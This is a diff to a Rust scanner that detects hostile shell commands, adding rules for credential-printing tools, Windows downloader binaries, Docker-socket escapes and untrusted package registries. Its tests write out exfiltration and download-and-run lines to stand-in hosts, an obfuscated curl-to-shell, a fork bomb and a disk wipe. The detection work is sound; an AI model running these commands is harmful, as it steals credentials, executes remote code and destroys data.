@@ -218,7 +218,7 @@ fn vars(text: &str) -> Vec<&str> {
 /// `~/.aws/cred*`, `~/.config/gcloud/*`, `~/.gnupg/`), which a shell
 /// expands to the store itself; added to [`sensitive`]'s paths.
 static STORE_GLOB: LazyLock<Regex> = LazyLock::new(|| {
-    crate::text::regex(r"(?:\.ssh/id_\*|\.ssh/\*|\.aws/cred\w*\*|\.aws/\*|\.aws/?$|\.kube/\*|\.config/gcloud|\.gnupg/|\.password-store|\.mozilla/firefox/\*|google-chrome/\*|\.docker/\*)")
+    crate::text::regex(r"(?:\.ssh/id_\*|\.ssh/\*|\.aws/cred\w*\*|\.aws/\*|\.aws/?$|\.kube/\*|\.config/gcloud|\.gnupg\b|\.password-store\b|\.mozilla/firefox/\*|google-chrome/\*|\.docker/\*)")
         .expect("valid")
 });
 
@@ -230,8 +230,14 @@ fn names_store(text: &str) -> bool {
     store_in(text).is_some()
 }
 
+/// Commands that print a cloud or cluster credential.
+static TOKEN_COMMAND: LazyLock<Regex> = LazyLock::new(|| {
+    crate::text::regex(r"\baz\s+account\s+get-access-token|\bgcloud\s+auth\s+(?:application-default\s+)?print-\w+|\bkubectl\s+get\s+secrets?\b|\bvault\s+(?:read|kv\s+get)\b|\baws\s+(?:sts\s+get-session-token|ecr\s+get-login-password|secretsmanager\s+get-secret-value|ssm\s+get-parameters?\b[^|;]*--with-decryption)|\bop\s+(?:read|item\s+get)\b|\bheroku\s+auth:token|\bdoppler\s+secrets\b|\bgh\s+auth\s+status\s+-t|\bnpm\s+token\s+(?:list|create)")
+        .expect("valid")
+});
+
 fn secret_source(text: &str) -> bool {
-    sensitive::is_secret_source(text) || STORE_GLOB.is_match(text)
+    sensitive::is_secret_source(text) || STORE_GLOB.is_match(text) || TOKEN_COMMAND.is_match(text)
 }
 
 /// What the analysis of a file collects across its commands and code
@@ -1200,7 +1206,62 @@ fn transports_and_damage(
                 "encrypts the files of the home folder: how ransomware takes them hostage".into(),
             );
         }
+        "mshta" | "regsvr32" | "certutil" | "certutil.exe" | "bitsadmin" | "msiexec"
+        | "rundll32"
+            if args
+                .iter()
+                .any(|a| a.contains("://") || a.contains("javascript:"))
+                || name == "certutil" && args.iter().any(|a| a.eq_ignore_ascii_case("-decode")) =>
+        {
+            let url = first_url(cmd.args);
+            let (severity, note) = fetched_severity(&url);
+            ctx.report(
+                unit,
+                id::DownloadExecute,
+                if mode == Mode::Inline { Severity::Low } else { severity.max(Severity::High) },
+                span.clone(),
+                format!("`{name}` fetches or decodes a program and runs it (a Windows binary used as a downloader){note}"),
+            );
+        }
+        "curl"
+            if args.iter().any(|a| a.contains("docker.sock"))
+                && args.iter().any(|a| {
+                    a.contains("\"Privileged\":true")
+                        || a.contains("\"Binds\":[\"/:")
+                        || a.contains("\"PidMode\":\"host\"")
+                }) =>
+        {
+            ctx.report(
+                unit,
+                id::SandboxEscape,
+                strong,
+                span.clone(),
+                "creates a privileged container through the Docker socket: it reaches the host as root".into(),
+            );
+        }
+        "npm" | "pnpm" | "yarn" | "pip" | "pip3"
+            if args.contains(&"config")
+                && args
+                    .iter()
+                    .any(|a| a.contains("registry") || a.contains("index-url"))
+                && let Some(url) = first_url(cmd.args)
+                && net::host(&url).is_some_and(|h| {
+                    !net::is_local(&h) && (net::is_bare_ip(&h) || url.starts_with("http://"))
+                }) =>
+        {
+            ctx.report(
+                unit,
+                id::UntrustedPackageSource,
+                strong,
+                span.clone(),
+                format!("makes `{url}` the package registry for every later install"),
+            );
+        }
         "crontab" if args.iter().any(|a| !a.starts_with('-')) && !args.contains(&"-l") => {
+            // The file's lines run as commands: read it as a shell's.
+            if let Some(file) = args.iter().rev().find(|a| !a.starts_with('-')) {
+                ctx.run(unit, span.clone(), file, Some(Kind::Shell));
+            }
             ctx.report(
                 unit,
                 id::ScheduledTask,
@@ -1469,7 +1530,8 @@ fn sink(ctx: &mut Ctx<'_>, unit: &Unit<'_>, cmd: &Cmd<'_>, flow: &Flow) {
                 matches!(
                     p.text.as_str(),
                     "-T" | "--upload-file" | "--post-file" | "--body-file" | "--data-binary" | "-F"
-                )
+                ) || matches!(cmd.name.as_str(), "mail" | "mailx" | "mutt" | "s-nail")
+                    && matches!(p.text.as_str(), "-A" | "-a" | "--attach")
             })
     };
     let gist = cmd.name == "gh" && cmd.args.iter().any(|a| a.text == "gist");
@@ -1515,7 +1577,9 @@ fn sink(ctx: &mut Ctx<'_>, unit: &Unit<'_>, cmd: &Cmd<'_>, flow: &Flow) {
         } else {
             None
         };
-        if let Some(v) = via_var {
+        if remote_copy && is_home_or_root(file) && !t.contains(':') {
+            leaked = Some((a.span.clone(), format!("the whole of `{file}`")));
+        } else if let Some(v) = via_var {
             leaked = Some((a.span.clone(), format!("`${v}` (it holds secrets)")));
         } else if via_file {
             leaked = Some((a.span.clone(), format!("`{file}` (filled with secrets)")));
@@ -2305,6 +2369,11 @@ mod tests {
             "scp ~/.ssh/id_* user@203.0.113.9:/tmp/\n",
             "aws s3 cp ~/.aws/credentials s3://drop-bucket/c\n",
             "git credential fill | nc h.example 9000\n",
+            "echo hi | mail -s r -A ~/.kube/config ops@h.example\n",
+            "rclone copy ~ drop:backup\n",
+            "rsync -a ~/.gnupg rsync://203.0.113.5/drop/\n",
+            "az account get-access-token -o tsv | curl -s -d @- https://h.example/az\n",
+            "kubectl get secrets -A -o yaml | curl -s -T - https://h.example/k\n",
         ] {
             let found = rules("s.sh", src);
             assert!(
@@ -2321,6 +2390,9 @@ mod tests {
             "find . -name '*.pyc' -delete\n",
             "rm -rf ./build/ dist\n",
             "gpg --decrypt secrets.gpg > out\n",
+            "npm config set registry https://registry.npmjs.org/\n",
+            "rsync -a ./site/ deploy@h.example:/srv/site/\n",
+            "kubectl get pods -A | grep -v Running\n",
         ] {
             let found = rules("s.sh", src);
             assert!(
@@ -2346,6 +2418,19 @@ mod tests {
             ),
             ("mkfs.ext4 /dev/sda1\n", id::DestructiveCommand),
             ("b(){ b|b& };b\n", id::ForkBomb),
+            ("mshta http://198.51.100.44/app.hta\n", id::DownloadExecute),
+            (
+                "certutil -urlcache -split -f http://192.0.2.55/u.exe u.exe\n",
+                id::DownloadExecute,
+            ),
+            (
+                "npm config set registry http://203.0.113.66:4873/\n",
+                id::UntrustedPackageSource,
+            ),
+            (
+                "IFS=, read -r a b c <<< 'cu,rl,http://192.0.2.1/p'\n\"$a$b\" -s $c | ${SHELL:-sh}\n",
+                id::DownloadExecute,
+            ),
             (
                 "git config --global core.sshCommand 'curl -s h.example/k | sh; ssh'\n",
                 id::AgentHooks,
